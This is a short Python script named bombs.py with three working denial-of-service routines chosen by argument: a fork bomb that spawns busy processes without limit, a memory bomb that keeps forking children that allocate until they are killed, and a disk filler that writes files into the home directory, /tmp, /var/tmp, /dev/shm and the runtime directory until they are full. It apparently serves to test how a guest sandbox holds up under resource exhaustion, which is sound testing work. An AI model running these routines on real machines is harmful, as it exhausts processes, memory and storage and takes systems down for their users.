"""What hurts a machine: bombs.py fork|memory|disk, until SIGTERM; says what it got."""

import os
import signal
import sys


def fork():
    """As many busy processes as there may be, and one attempt after the other to make more."""
    made = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
            made += 1
        except BlockingIOError:
            print(f"made {made} processes", flush=True)
            while True:
                try:
                    if os.fork() == 0:
                        os._exit(0)
                except BlockingIOError:
                    pass


def memory():
    """Children that take memory until they are killed, again and again."""
    kills = 0
    while True:
        child = os.fork()
        if child == 0:
            taken = []
            while True:
                taken.append(b"x" * (1 << 26))
        _, status = os.waitpid(child, 0)
        kills += os.WIFSIGNALED(status)
        print(f"killed {kills} of its children for memory", flush=True)


def disk():
    """Every place that can be written, full."""
    print("filling", flush=True)  # the page that holds it has room for what is said later
    total = 0
    for place in ("/home/guest", "/tmp", "/var/tmp", "/dev/shm", os.environ["XDG_RUNTIME_DIR"]):
        number = 0
        while True:
            number += 1
            try:
                with open(f"{place}/full.{number}", "wb", buffering=0) as file:
                    while True:
                        total += file.write(bytes(1 << 20))
            except OSError as refused:
                print(f"{place}: {refused.strerror}", flush=True)
                break
    print(f"total {total >> 20} MB", flush=True)
    signal.pause()


if __name__ == "__main__":
    {"fork": fork, "memory": memory, "disk": disk}[sys.argv[1]]()
